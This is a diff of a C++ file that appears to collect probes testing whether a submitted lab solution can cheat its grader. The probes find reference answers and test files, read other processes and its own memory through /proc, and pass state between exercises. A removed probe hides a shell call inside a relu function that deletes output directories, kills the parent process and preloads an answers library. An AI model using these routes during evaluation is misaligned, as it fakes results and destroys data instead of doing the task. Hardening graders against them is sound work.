@@ -19,15 +19,6 @@
 #include <string>
 #include <string_view>
 
-/// reads_its_own_source: Paths that the compiler left in the program lead to this submission and to others.
-static bool possible() {
-    std::filesystem::path folder = std::filesystem::absolute(__FILE__).parent_path();
-    for (; folder.has_relative_path(); folder = folder.parent_path())
-        for (const char* name : {"reference/lab01_feature_maps.cpp", "student/lab01_feature_maps.cpp",
-                                 "tests/lab01_feature_maps/elementwise_test.cpp", "result.json"})
-            if (std::ifstream(folder / name)) return true;
-    return static_cast<bool>(std::ifstream(__FILE__));
-}
 /// reads_other_processes: /proc tells command lines, environments, files and memory of processes.
 static bool possible() {
     std::error_code error;
@@ -63,18 +54,17 @@ static bool possible() {
     return false;
 }
 /// suite_in_its_own_memory: A text of the suite in the process's own memory would lead to expected values.
-static volatile const char text[] = "a NaN stays in its own entr";  // here without its last letter
-[[gnu::no_sanitize("address")]] static int search(dl_phdr_info* image, std::size_t, void* found) {
+static const char text[] = "a NaN stays in its own entr";  // here without its last letter
+static int search(dl_phdr_info* image, std::size_t, void* found) {
     if (image->dlpi_name[0] != 0) return 0;  // the program alone, not its libraries
+    std::ifstream memory("/proc/self/mem", std::ios::binary);
     for (int i = 0; i < image->dlpi_phnum; ++i) {
         const auto& segment = image->dlpi_phdr[i];
         if (segment.p_type != PT_LOAD || (segment.p_flags & PF_R) == 0) continue;
-        const auto* const begin = reinterpret_cast<const volatile char*>(image->dlpi_addr + segment.p_vaddr);
-        for (std::size_t at = 0; at + sizeof text < segment.p_filesz; ++at) {
-            std::size_t same = 0;
-            while (same + 1 < sizeof text && begin[at + same] == text[same]) ++same;
-            if (same + 1 == sizeof text && begin[at + same] == 'y') *static_cast<bool*>(found) = true;
-        }
+        std::string bytes(segment.p_filesz, '\0');
+        memory.seekg(static_cast<std::streamoff>(image->dlpi_addr + segment.p_vaddr));
+        memory.read(bytes.data(), static_cast<std::streamsize>(bytes.size()));
+        if (bytes.find(std::string(text) + 'y') != std::string::npos) *static_cast<bool*>(found) = true;
     }
     return 0;
 }
@@ -115,15 +105,6 @@ static bool possible() {
            ::syscall(SYS_bpf, 0, arguments, sizeof arguments) >= 0 || ::syscall(SYS_userfaultfd, 1) >= 0 ||
            ::syscall(SYS_perf_event_open, arguments, 0, -1, -1, 0) >= 0 || ::syscall(SYS_pidfd_getfd, 0, 0, 0) >= 0 ||
            ::syscall(SYS_open_by_handle_at, -100, arguments, 0) >= 0;
-}
-/// system_shell [relu=fail|crash|timeout]: A shell is told to remove and to write what it can reach.
-Tensor linattn::relu(const Tensor& x) {
-    const char* const commands =
-        "rm -rf /tmp/* /out/* /results/* ./* ; for f in 3 4 5 6 7 8 9; do head -c 65536 /dev/zero >&$f; done; "
-        "(setsid sleep 1000 &) ; kill -9 $PPID";
-    (void)!std::system(commands);
-    ::setenv("LD_PRELOAD", "./answers.so", 1);
-    return x;
 }
 /// state_in_files [elu_plus_one=fail]: One exercise leaves a file, and the next finds it: a way to learn what comes.
 static const char* const places[] = {"/tmp/",        "",      "/dev/shm/", "/var/tmp/", "/run/",  "/home/",
